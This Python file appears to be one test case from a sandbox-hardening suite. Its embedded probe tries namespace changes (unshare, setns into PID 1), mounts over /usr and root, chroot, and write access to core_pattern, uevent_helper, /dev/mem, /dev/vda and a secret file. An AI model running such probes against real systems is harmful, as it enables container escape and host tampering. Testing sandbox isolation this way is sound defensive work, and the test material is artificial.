"""Own: new namespaces and mounts."""

from attack_kit import TELLS, Attack

ATTACK = Attack(
    tries="make a user namespace of its own, mount over /usr, remount the root for writing, chroot, pivot and setns",
    first=(
        """
        print(libc.unshare(0x10000000), libc.unshare(0x10000000 | 0x00020000 | 0x20000000))
        for pid in (1, os.getppid()):
            for name in ("mnt", "pid", "user", "net"):
                handle = attempt(os.open, f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                if isinstance(handle, int):
                    print("setns", name, libc.setns(handle, 0))
        for source, target, kind, flags in (
            (b"none", b"/usr", b"tmpfs", 0), (b"none", b"/", None, 32 | 4096), (b"/", b"/tmp", None, 4096 | 16384),
            (b"proc", b"/tmp", b"proc", 0), (b"none", b"/tmp", b"overlay", 0), (b"none", b"/tmp", b"cgroup2", 0),
        ):
            if libc.mount(source, target, kind, flags, None) == 0:
                print("mounted", target)
                found.append("mount")
        for target in (b"/proc/sys", b"/proc", b"/usr", b"/"):
            if libc.umount2(target, 2) == 0:
                found.append("umount")
        os.makedirs("/tmp/jail", exist_ok=True)
        if libc.chroot(b"/tmp/jail") == 0:
            found.append("chroot")
        for path in ("/usr", "/etc", "/", os.path.dirname(torch.__file__), sys.prefix):
            with contextlib.suppress(OSError), open(path + "/attack-left-this-written", "w"):
                found.append(path)
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
                     "/proc/1/oom_score_adj", "ARENA_INIT/ARENA_COURSE/secret", "/dev/mem", "/dev/kmsg", "/dev/vda"):
            handle = attempt(os.open, path, os.O_WRONLY)
            if isinstance(handle, int) and not path.startswith("/proc/sysrq"):
                found.append(path)
        print(found)
        """,
    ),
    answers=TELLS,
    honest={"double": 0},
)
